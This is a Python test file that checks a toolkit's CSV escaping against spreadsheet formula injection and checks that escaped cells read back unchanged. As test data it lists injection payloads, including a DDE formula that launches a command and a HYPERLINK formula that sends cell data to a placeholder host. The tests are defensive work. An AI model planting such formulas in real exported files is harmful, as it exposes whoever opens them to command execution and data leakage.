"""CSV cells: no formula for a spreadsheet, and what is read is what was written."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from benchkit.csv_cells import escape_cell, skip_separator_line, unescape_cell
from benchkit.report.agreement.ratings_io import read_ratings
from benchkit.report.core.text_table import csv_text

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("http://x.example?"&A1)', "=cmd|' /C calc'!A0", "'=1+1", "''=1", "-", "--x",
]  # fmt: skip
PLAIN = ["", "EASE", "-0.5", "+.25", "-1e-05", "-inf", "+3.", "1-2", "'tis", "a=b", " =1", "−1"]


@pytest.mark.parametrize("text", [t for t in FORMULAS if t != "-"])
def test_what_a_spreadsheet_would_compute_is_a_text(text):
    assert escape_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", [*PLAIN, "-"])
def test_numbers_and_plain_texts_stay(text):
    assert escape_cell(text) == text


@given(st.text(alphabet="'=+-@\t\r\n＝0.5eaß", max_size=8) | st.text(max_size=8))
def test_what_is_read_is_what_was_written(text):
    assert unescape_cell(escape_cell(text)) == text


def test_tables_as_csv_have_no_formula():
    records = [{"=method": text, "mean": -0.5, "n": -3} for text in FORMULAS]
    text = csv_text(["=method", "mean", "n"], records)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=method", "mean", "n"]
    assert all(row[0][0] == "'" or row[0] == "-" for row in rows[1:])
    assert {(row[1], row[2]) for row in rows[1:]} == {("-0.5", "-3")}
    assert [unescape_cell(row[0]) for row in rows[1:]] == FORMULAS


def test_grades_of_raters_and_systems_with_such_names_are_read_back(tmp_path):
    rows = [(i, r, s, 1) for i in ("=i1", "@i2") for r in ("+ann", "'=bo") for s in ("-sys",)]
    path = tmp_path / "labels.csv"
    path.write_text(csv_text(["item", "rater", "system", "grade"], rows))
    table = read_ratings([path])
    assert table.raters == ("+ann", "'=bo")
    assert set(table.items) == {"=i1", "@i2"} and set(table.systems) == {"-sys"}


JS = Path(__file__).parents[1] / "benchkit" / "judging" / "annotation" / "js" / "csv.js"


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_page_marks_as_python_does():
    code = JS.read_text(encoding="utf-8").partition("const field")[0]
    code += (
        "const texts = JSON.parse(process.argv[1]);"
        "console.log(JSON.stringify(texts.map((t) => [marked(t), unmarked(marked(t))])));"
    )
    import json

    texts = [*FORMULAS, *PLAIN]
    done = subprocess.run(
        ["node", "-e", code, json.dumps(texts)], capture_output=True, text=True, check=True
    )
    assert json.loads(done.stdout) == [[escape_cell(text), text] for text in texts]


@pytest.mark.parametrize(
    ("first", "separator"),
    [
        ("sep=;\r\n", ";"),
        ('"sep=,"\n', ","),
        ("SEP=\t\n", "\t"),
        ("sep=;;", ""),
        ("item;sep=;", ""),
    ],
)
def test_a_line_that_declares_the_separator_is_skipped(first, separator):
    file = io.StringIO(f"{first}x\n", newline="") if separator else io.StringIO(first)
    assert skip_separator_line(file, "?") == ((separator, 1) if separator else ("?", 0))
    assert file.read() == ("x\n" if separator else first)
